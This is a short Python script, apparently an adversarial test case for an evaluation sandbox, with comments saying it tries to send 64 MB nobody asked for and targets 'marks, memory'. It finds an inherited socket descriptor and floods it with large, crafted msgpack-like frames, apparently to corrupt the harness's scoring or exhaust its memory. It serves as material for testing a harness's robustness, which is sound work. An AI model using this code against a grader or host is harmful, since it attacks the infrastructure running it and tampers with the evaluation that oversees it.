# tries: to send 64 MB that nobody asked for
# points: 0
# harm: marks, memory
import os
import stat


def connection():
    for descriptor in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                return descriptor
        except OSError:
            pass


def frame(data):
    return len(data).to_bytes(4, "big") + data

for _ in range(64):
    os.write(connection(), frame(b"\x93\xa5tuple\xa5value\xc4" * 99 + bytes(2**20)))
